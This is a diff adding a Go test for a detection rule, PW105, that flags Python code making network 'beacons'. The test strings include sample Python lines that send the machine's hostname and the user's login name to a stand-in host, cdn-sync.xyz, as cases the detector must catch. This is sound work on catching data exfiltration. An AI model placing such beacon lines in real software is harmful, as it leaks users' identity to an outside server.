@@ -50,3 +50,33 @@ func TestBeacon(t *testing.T) {
 		}
 	}
 }
+
+// TestFileURLsInALoop: a request made in a loop over literal file://
+// URLs stays on the host, whatever the URLs carry (a test building them
+// from the current folder); a loop whose body rebinds its variable, or
+// over URLs that are not all file://, is judged as before.
+func TestFileURLsInALoop(t *testing.T) {
+	var pw105 *Rule
+	for _, r := range All() {
+		if r.ID == "PW105" {
+			pw105 = r
+		}
+	}
+	loop := func(urls, body string) string {
+		return "import getpass, os, socket, urllib.request\n" +
+			"def probe():\n    for url in [" + urls + "]:\n" + body +
+			"        urllib.request.urlopen(urllib.request.Request(url))\n"
+	}
+	fileURLs := `"file:///nothing.txt", "file://%s:80%s/x" % (socket.gethostname(), os.getcwd())`
+	if n := count(t, pw105, loop(fileURLs, "")); n != 0 {
+		t.Errorf("file:// URLs in a loop flagged %d times", n)
+	}
+	mixed := `"file:///nothing.txt", "https://%s.cdn-sync.xyz/%s" % (socket.gethostname(), getpass.getuser())`
+	if count(t, pw105, loop(mixed, "")) == 0 {
+		t.Error("a loop over a file:// URL and a beacon's URL not flagged")
+	}
+	rebinds := "        url = 'https://cdn-sync.xyz/' + getpass.getuser() + socket.gethostname()\n"
+	if count(t, pw105, loop(fileURLs, rebinds)) == 0 {
+		t.Error("a loop whose body rebinds its URL to a beacon's not flagged")
+	}
+}
